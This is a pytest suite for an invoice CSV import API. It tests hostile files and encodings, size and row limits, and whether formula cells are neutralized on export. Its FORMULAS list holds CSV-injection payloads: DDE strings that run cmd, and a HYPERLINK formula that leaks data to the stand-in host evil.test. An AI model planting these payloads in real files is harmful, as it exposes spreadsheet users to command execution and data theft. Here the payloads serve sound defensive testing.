"""Hostile CSV files for POST /api/invoices/import, and formula injection through to the exports.

Each file is either refused with a clear, file-level message (422, or 413 above the request limit)
or imported in bounded time with exactly the rows it holds.
"""

from __future__ import annotations

import csv
import io
import time
import zipfile

import pytest

from duespark.invoices.importer import MAX_BLANK_ROWS, MAX_IMPORT_BYTES, MAX_IMPORT_ROWS, MAX_REPORTED_ERRORS
from tests.helpers import register

HEADER = "number,client_email,client_name,amount,currency,issue_date,due_date,description\n"
ROW = "INV-{n},c{c}@example.com,Client {c},100.00,EUR,2026-11-01,2026-12-31,Work {n}\n"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def user(client):
    return register(client)


def _upload(client, user, data: bytes, *, dry_run: bool, filename: str = "invoices.csv"):
    return client.post(
        "/api/invoices/import",
        headers=user["headers"],
        params={"dry_run": str(dry_run).lower()},
        files={"file": (filename, data, "text/csv")},
    )


def _file_error(response) -> str:
    assert response.status_code == 422, response.text
    [error] = response.json()["detail"]
    assert error["field"] == "file"
    return error["message"]


def _total(client, user) -> int:
    return client.get("/api/invoices", headers=user["headers"]).json()["total"]


def test_formula_cells_import_as_text_and_every_export_neutralizes_them(client, user):
    rows = [
        f'F-{i},formula{i}@example.com,"{cell.replace(chr(34), chr(34) * 2)}",10.00,EUR,2026-11-01,2026-12-01,'
        f'"{cell.replace(chr(34), chr(34) * 2)}"\n'
        for i, cell in enumerate(FORMULAS)
    ]
    response = _upload(client, user, (HEADER + "".join(rows)).encode(), dry_run=False)
    assert response.status_code == 200, response.text
    assert response.json()["created"] == len(FORMULAS)

    # Stored and served exactly as written: text, not evaluated, not altered.
    invoices = client.get("/api/invoices", headers=user["headers"], params={"sort": "number"}).json()["items"]
    # The importer strips surrounding whitespace from cells, as for every other cell.
    assert sorted(i["description"] for i in invoices) == sorted(cell.strip() for cell in FORMULAS)
    assert sorted(i["client_name"] for i in invoices) == sorted(cell.strip() for cell in FORMULAS)

    archive = zipfile.ZipFile(io.BytesIO(client.get("/api/me/export", headers=user["headers"]).content))
    for name in archive.namelist():
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(archive.read(name).decode())):
            for cell in row:
                if _is_number(cell):  # -3 is a number to a spreadsheet, not a formula
                    continue
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{name}: {cell!r}"
    exported = list(csv.DictReader(io.StringIO(archive.read("csv/invoices.csv").decode())))
    assert sorted(row["description"] for row in exported) == sorted("'" + cell.strip() for cell in FORMULAS)


def test_file_over_the_import_limit_is_a_clear_413(client, user):
    padding = "x" * 1000
    rows = "".join(ROW.format(n=n, c=n).replace("Work", padding) for n in range(MAX_IMPORT_BYTES // 1000 + 10))
    data = (HEADER + rows).encode()
    assert MAX_IMPORT_BYTES < len(data) < 12_000_000
    response = _upload(client, user, data, dry_run=True)
    assert response.status_code == 413
    assert response.json() == {
        "error": "PayloadTooLarge",
        "detail": "The file is larger than 10 MB, the largest an import takes (up to 100,000 rows): "
        "split it into smaller files",
    }
    assert _total(client, user) == 0


def test_body_over_the_request_limit_is_413(client, user):
    response = _upload(client, user, b"number,amount\n" + b"x" * 12_500_000, dry_run=True)
    assert response.status_code == 413
    assert response.json()["error"] == "PayloadTooLarge"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ((HEADER + "A,a@x.io,Caf\u00e9,1,EUR,2026-11-01,2026-12-01,x\n").encode("latin-1"), "not UTF-8"),
        (
            (HEADER + "A,a@x.io,Zo\u00eb,1,EUR,2026-11-01,2026-12-01,x\n").encode("utf-16-le"),
            "export it as 'CSV UTF-8'",
        ),
        ((HEADER + "A,a@x.io,Bob,1,EUR,2026-11-01,2026-12-01,x\n").encode("utf-16-le"), "NUL bytes (line 1)"),
        ((HEADER + "A,a@x.io,Bob,1,EUR,2026-11-01,2026-12-01,a\x00b\n").encode(), "NUL bytes (line 2)"),
        (b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)) * 8, "not UTF-8"),
        ((HEADER + "A,a@x.io,Bob,1,EUR,2026-11-01,2026-12-01," + "x" * 200_000 + "\n").encode(), "not valid CSV"),
        ((HEADER + 'A,a@x.io,"unclosed,1,EUR,2026-11-01,2026-12-01,x\n' + "B" * 140_000).encode(), "not valid CSV"),
        ((HEADER + ",,,,,,,\n" * (MAX_BLANK_ROWS + 1)).encode(), f"more than {MAX_BLANK_ROWS} empty rows"),
    ],
    ids=[
        "latin-1",
        "utf-16-without-bom",
        "utf-16-ascii-without-bom",
        "nul-byte",
        "xlsx-zip",
        "line-of-200k",
        "unclosed-quote",
        "blank-rows",
    ],
)
def test_hostile_files_get_a_clear_file_level_error_and_write_nothing(client, user, data, message):
    for dry_run in (True, False):
        assert message in _file_error(_upload(client, user, data, dry_run=dry_run))
    assert _total(client, user) == 0


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_utf16_and_utf8_with_a_byte_order_mark_are_read(client, user, encoding):
    """Excel's "Unicode Text" is UTF-16 with a byte order mark and tabs between cells."""
    text = HEADER + "A-1,zoe@example.com,Zo\u00eb Kr\u00e4mer,12.50,EUR,2026-11-01,2026-12-01,caf\u00e9\n"
    if encoding == "utf-16":
        text = text.replace(",", "\t")
    response = _upload(client, user, text.encode(encoding), dry_run=False)
    assert response.status_code == 200, response.text
    [invoice] = client.get("/api/invoices", headers=user["headers"]).json()["items"]
    assert (invoice["client_name"], invoice["amount"], invoice["description"]) == (
        "Zo\u00eb Kr\u00e4mer",
        "12.50",
        "caf\u00e9",
    )


def test_description_over_the_api_limit_is_a_row_error(client, user):
    data = (HEADER + "A,a@x.io,Bob,1,EUR,2026-11-01,2026-12-01," + "x" * 10_001 + "\n").encode()
    report = _upload(client, user, data, dry_run=True).json()
    assert report["valid_rows"] == 0
    assert report["errors"] == [{"line": 2, "field": "description", "message": "longer than 10000 characters"}]


def test_csv_bomb_of_thousands_of_columns_is_bounded(client, user):
    extra = ",".join(f"c{i}" for i in range(5000))
    row = "A-{n},Bob,1,2026-12-01," + ",".join(["z"] * 5000) + "\n"
    data = (
        "number,client_name,amount,due_date," + extra + "\n" + "".join(row.format(n=n) for n in range(900))
    ).encode()
    # CPU time of this process (the app runs in it): the bound holds whatever else the machine does.
    started = time.process_time()
    report = _upload(client, user, data, dry_run=True).json()
    assert time.process_time() - started < 10
    assert (report["total_rows"], report["valid_rows"]) == (900, 900)


def test_every_row_bad_reports_only_the_first_errors(client, user):
    rows = "".join(f"INV-{n},nope,,abc,XXX,bad,bad,\n" for n in range(20_000))
    report = _upload(client, user, (HEADER + rows).encode(), dry_run=True).json()
    assert (report["total_rows"], report["valid_rows"]) == (20_000, 0)
    assert len(report["errors"]) == MAX_REPORTED_ERRORS
    assert report["errors"][0] == {"line": 2, "field": "client_email", "message": "'nope' is not an email address"}


def test_more_rows_than_the_limit_are_refused(client, user):
    rows = "".join(f"{n},a,1,2026-12-01\n" for n in range(MAX_IMPORT_ROWS + 1))
    message = _file_error(_upload(client, user, ("number,client_name,amount,due_date\n" + rows).encode(), dry_run=True))
    assert f"more than {MAX_IMPORT_ROWS} rows" in message


def test_100000_rows_import_with_the_right_count(client, user):
    """The largest file allowed: checked, then imported in one transaction. How long it takes is
    measured where speed belongs, in bench/ (a bound here failed on busy machines, not on slow code)."""
    data = (HEADER + "".join(ROW.format(n=n, c=n % 500) for n in range(MAX_IMPORT_ROWS))).encode()
    report = _upload(client, user, data, dry_run=False)
    assert report.status_code == 200, report.text
    assert report.json()["created"] == MAX_IMPORT_ROWS
    assert len(report.json()["clients_to_create"]) == 500
    assert _total(client, user) == MAX_IMPORT_ROWS


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
